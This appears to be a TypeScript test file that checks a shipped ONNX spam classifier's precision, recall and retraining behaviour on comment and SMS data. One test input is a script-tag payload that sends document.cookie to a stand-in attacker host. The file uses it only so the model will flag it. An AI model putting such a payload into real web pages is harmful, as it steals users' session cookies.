/**
 * Checks on the model that `npm run build -w @folio/ml` produces (resources/models/spam.onnx):
 * it matches the committed lock, meets the comment-shaped targets on the held-out split, and, where
 * the shared fixtures exist, works on the SMS Spam Collection and learns from a few dozen of its labels.
 * Skipped (with a message) when the model has not been built.
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { commentSplits, REPO_ROOT } from './fixture';
import { seededShuffle } from './hash';
import { evaluate, precisionAtRecall, rocAuc, type Label } from './metrics';
import { loadSpamModel, type SpamModel } from './model';
import { retrainWeights } from './retrain';
import { referenceProbability } from './weights';

const modelPath = path.join(REPO_ROOT, 'resources', 'models', 'spam.onnx');
const lockPath = path.join(REPO_ROOT, 'resources', 'models', 'spam.lock.json');
const smsPath = path.resolve(REPO_ROOT, '../shared/fixtures/spam/sms-spam-collection.tsv');
const built = fs.existsSync(modelPath);
const hasSms = fs.existsSync(smsPath);
if (!built) console.warn(`shipped spam model tests skipped: ${modelPath} not built (npm run build -w @folio/ml)`);
if (built && !hasSms) console.warn(`SMS spam checks skipped: ${path.dirname(smsPath)} not found`);

let model: SpamModel;

describe.skipIf(!built)('shipped spam model', () => {
  beforeAll(async () => {
    const lock = JSON.parse(fs.readFileSync(lockPath, 'utf8')) as { sha256: Record<string, string> };
    model = await loadSpamModel({ modelPath, sha256: lock.sha256['spam.onnx']! });
  });
  afterAll(async () => model?.dispose());

  it('reaches precision >= 0.95 at recall >= 0.85 on the held-out comments', async () => {
    const { heldOut } = commentSplits();
    const labels = heldOut.map((e) => e.label) as Label[];
    const scores = await model.score(heldOut.map((e) => e.text));
    expect(precisionAtRecall(labels, scores, 0.85)!.precision).toBeGreaterThanOrEqual(0.95);
    expect(rocAuc(labels, scores)!).toBeGreaterThan(0.98);
    const atThreshold = evaluate(labels, scores, model.info.thresholds.spam);
    expect(atThreshold.precision).toBeGreaterThanOrEqual(0.9);
    expect(atThreshold.recall).toBeGreaterThanOrEqual(0.85);
  });

  it('gives sensible verdicts on obvious cases', async () => {
    const [ham, spam, script, empty] = await model.score([
      'Thanks for writing this up, the part about the seed finally fixed my flaky test.',
      'Make $500 a day from home!!! Contact Mrs. Sarah on WhatsApp +1 404 555 0189',
      '<script>document.location="http://steal.example.ru/?c="+document.cookie</script>',
      '',
    ]);
    expect(ham!).toBeLessThan(0.2);
    expect(spam!).toBeGreaterThan(0.9);
    expect(script!).toBeGreaterThan(0.5);
    expect(Number.isFinite(empty!)).toBe(true);
  });

  describe.skipIf(!hasSms)('on the SMS Spam Collection (evaluation only)', () => {
    const sms = () =>
      fs
        .readFileSync(smsPath, 'utf8')
        .split(/\r?\n/)
        .filter((l) => l.trim())
        .map((l) => {
          const m = /^(ham|spam)\s+(.*)$/.exec(l)!;
          return { text: m[2]!, label: (m[1] === 'spam' ? 1 : 0) as Label };
        });

    it('ranks spam above ham', async () => {
      const data = sms();
      const scores = await model.score(data.map((e) => e.text));
      expect(
        rocAuc(
          data.map((e) => e.label),
          scores,
        )!,
      ).toBeGreaterThan(0.93);
    });

    it('improves after learning from 48 labelled messages', () => {
      const data = seededShuffle(sms(), 7);
      const labelled = [...data.filter((e) => e.label === 1).slice(0, 24), ...data.filter((e) => e.label === 0).slice(0, 24)];
      const rest = data.filter((e) => !labelled.includes(e)).slice(0, 1500);
      const r = retrainWeights(model.weights, labelled);
      expect(r.after.rocAuc!).toBeGreaterThan(r.before.rocAuc!);
      const y = rest.map((e) => e.label);
      const before = evaluate(
        y,
        rest.map((e) => referenceProbability(model.weights, e.text)),
        0.5,
      );
      const after = evaluate(
        y,
        rest.map((e) => referenceProbability(r.weights, e.text)),
        0.5,
      );
      expect(after.f1).toBeGreaterThan(before.f1);
      expect(after.rocAuc!).toBeGreaterThan(before.rocAuc!);
    });
  });
});
